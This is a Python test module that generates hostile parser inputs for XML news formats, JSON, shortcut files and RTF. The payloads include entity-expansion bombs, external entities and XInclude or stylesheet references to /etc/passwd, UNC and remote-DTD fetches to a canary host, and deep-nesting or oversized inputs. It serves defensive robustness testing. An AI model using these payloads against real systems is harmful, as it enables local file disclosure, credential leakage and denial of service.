"""Hostile data of agencies and services: feeds, news XML, JSON, links, rich text."""

from __future__ import annotations

import json

from tests.hostile.made import WORDS, Hostile, marked
from tests.hostile.office import DTD, LAUGHS, OUTSIDE

_TEXT = WORDS.encode()
_ENTRY = f"<item><title>Harbour</title><description>{WORDS}</description></item>".encode()
_ATTRIBUTES = b" ".join(b"a%d='1'" % number for number in range(300_000))


def feed(inner: bytes, before: bytes = b"") -> bytes:
    """A feed with ``before`` in front of it."""
    return before + b"<rss><channel>" + inner + b"</channel></rss>"


def _laughs() -> bytes:
    lines = ["<!ENTITY l0 'ha'>"]
    lines += [f"<!ENTITY l{n} '{f'&l{n - 1};' * 10}'>" for n in range(1, 10)]
    return f"<!DOCTYPE rss [{''.join(lines)}]>".encode()


def _link_list(levels: int) -> bytes:
    """A binary property list that holds itself."""
    return (
        b"bplist00\xa1\x00\x08"
        + bytes(6)
        + b"\x01\x01"
        + bytes(7)
        + bytes([levels])
        + bytes(15)
        + b"\x0a"
    )


FILES = [
    Hostile("laughs.rss", lambda: feed(b"<item><description>&l9;</description></item>", _laughs())),
    Hostile(
        "quadratic.rss",
        lambda: feed(b"<item><title>" + b"&a;" * 9_999 + b"</title></item>", LAUGHS),
    ),
    Hostile("outside.rss", lambda: feed(b"<item><description>&f;</description></item>", OUTSIDE)),
    Hostile("dtd.rss", lambda: feed(_ENTRY, DTD)),
    Hostile(
        "parameter_entity.rss",
        lambda: feed(_ENTRY, b"<!DOCTYPE r [<!ENTITY % p SYSTEM 'http://canary.invalid/p'> %p;]>"),
    ),
    Hostile(
        "include.rss",
        lambda: feed(
            b"<item><include xmlns='http://www.w3.org/2001/XInclude'"
            b" href='/etc/passwd' parse='text'/></item>"
        ),
    ),
    Hostile(
        "stylesheet.rss", lambda: feed(_ENTRY, b"<?xml-stylesheet href='file:///etc/passwd'?>")
    ),
    Hostile("deep.rss", lambda: b"<rss>" + b"<item>" * 300_000),
    Hostile("deep_300.rss", lambda: feed(b"<item>" * 300 + _TEXT)),
    Hostile("empty_entries.rss", lambda: feed(b"<item><title>x</title></item>" * 50_000)),
    Hostile("attributes.rss", lambda: feed(b"<item " + _ATTRIBUTES + b"/>" + _ENTRY)),
    Hostile(
        "attribute_20_mb.rss", lambda: feed(b"<item a='" + b"x" * (20 << 20) + b"'/>" + _ENTRY)
    ),
    Hostile(
        "text_12_mb.rss",
        lambda: feed(
            f"<item><description>{marked('word ', 5 << 19)}</description></item>".encode()
        ),
        marked=True,
    ),
    Hostile(
        "names.rss",
        lambda: feed(
            b"".join(b"<a%d:b xmlns:a%d='u%d'/>" % (n, n, n) for n in range(60_000)) + _ENTRY
        ),
    ),
    Hostile(
        "author.rss",
        lambda: feed(
            _ENTRY.replace(b"<title>", b"<author>a" + b" " * 200_000 + b"b</author><title>")
        ),
    ),
    Hostile("cut.rss", lambda: feed(_ENTRY * 9)[:-200]),
    Hostile("unclosed.rss", lambda: b"<rss" + b" " * (2 << 20)),
    Hostile("laughs.xml", lambda: LAUGHS + b"<newsItem>&b;</newsItem>"),
    Hostile(
        "outside.nitf",
        lambda: OUTSIDE + b"<nitf><body><body.content>&f;</body.content></body></nitf>",
    ),
    Hostile("deep.nitf", lambda: b"<nitf><body><body.content>" + b"<block>" * 100_000),
    Hostile(
        "deep_200.nitf",
        lambda: (
            b"<nitf><body><body.content>"
            + b"<block>" * 200
            + _TEXT
            + b"</block>" * 200
            + b"</body.content></body></nitf>"
        ),
    ),
    Hostile("items.xml", lambda: b"<newsMessage>" + b"<newsItem/>" * 20_000 + b"</newsMessage>"),
    Hostile(
        "nested_items.xml",
        lambda: (
            b"<newsMessage>"
            + b"<newsItem>" * 200
            + b"<inlineData>"
            + _TEXT
            + b"</inlineData>"
            + b"</newsItem>" * 200
            + b"</newsMessage>"
        ),
    ),
    Hostile("deep.json", lambda: b'{"a":' * 300_000),
    Hostile("deep_lists.json", lambda: b'{"a":' + b"[" * 300_000 + b"]" * 300_000 + b"}"),
    Hostile(
        "deep_900.json", lambda: b'{"a":' * 900 + json.dumps({"body": WORDS}).encode() + b"}" * 900
    ),
    Hostile("number.json", lambda: b'{"body": "' + _TEXT + b'", "n": ' + b"9" * 1_000_000 + b"}"),
    Hostile("float.json", lambda: b'{"body": "' + _TEXT + b'", "n": 1e999999999, "m": NaN}'),
    Hostile(
        "long.json",
        lambda: json.dumps({"body": marked("words ", 2 << 20)}).encode(),
        marked=True,
        large=True,
    ),
    Hostile("halves.json", lambda: b'{"body": "' + b"\\ud800" * 90_000 + _TEXT + b'"}'),
    Hostile(
        "keys.json",
        lambda: json.dumps({"body": WORDS, **{f"k{n}": n for n in range(50_000)}}).encode(),
    ),
    Hostile(
        "objects.json",
        lambda: json.dumps([{"n": n} for n in range(210_000)] + [{"body": WORDS}]).encode(),
    ),
    Hostile("lines.json", lambda: b'{"a": 1}\n' * 100_000 + b"{"),
    Hostile(
        "author.json", lambda: json.dumps({"body": WORDS, "author": f"a{' ' * 200_000}b"}).encode()
    ),
    Hostile("cut.json", lambda: json.dumps({"body": WORDS * 99}).encode()[:-9]),
    Hostile("loop.webloc", lambda: _link_list(1)),
    Hostile(
        "outside.webloc", lambda: OUTSIDE + b"<plist><dict><string>&f;</string></dict></plist>"
    ),
    Hostile("file.url", lambda: b"[InternetShortcut]\nURL=file:///etc/passwd\n"),
    Hostile(
        "share.url",
        lambda: (
            b"[InternetShortcut]\nURL=\\\\canary.invalid\\share\\a\nIconFile=\\\\canary.invalid\\i\n"
        ),
    ),
    Hostile("braces.rtf", lambda: rb"{\rtf1" + b"{" * 1_000_000),
    Hostile("braces_closed.rtf", lambda: rb"{\rtf1 " + b"}" * 1_000_000 + _TEXT),
    Hostile("controls.rtf", lambda: rb"{\rtf1 " + rb"\par\b\i" * 50_000 + _TEXT + b"}"),
    Hostile("number.rtf", lambda: rb"{\rtf1 \u" + b"9" * 200_000 + b" " + _TEXT + b"}"),
    Hostile("skip.rtf", lambda: rb"{\rtf1 \uc" + b"9" * 4_000 + rb" \u8364?" * 99 + _TEXT + b"}"),
    Hostile(
        "binary.rtf", lambda: rb"{\rtf1 {\pict\bin999999999 " + bytes(99_999) + b"}" + _TEXT + b"}"
    ),
    Hostile(
        "object.rtf",
        lambda: rb"{\rtf1 {\object\objdata " + b"d0cf11e0" * 300_000 + b"}" + _TEXT + b"}",
    ),
    Hostile(
        "field.rtf",
        lambda: (
            rb"{\rtf1 {\field{\*\fldinst INCLUDETEXT "
            rb'"\\\\canary.invalid\\a"}}' + _TEXT + b"}"
        ),
    ),
    Hostile("code_page.rtf", lambda: rb"{\rtf1\ansi\ansicpg99999 \'ff\'fe " + _TEXT + b"}"),
    Hostile(
        "title.rtf", lambda: rb"{\rtf1{\info{\title " + rb"\'e4" * 6_000 + b"-}}" + _TEXT + b"}"
    ),
    Hostile("cut.rtf", lambda: rb"{\rtf1 " + _TEXT + rb"\'"),
    Hostile(
        "long.rtf",
        lambda: rb"{\rtf1 " + marked("words of the sea ", 60_000).encode() + b"}",
        marked=True,
    ),
]
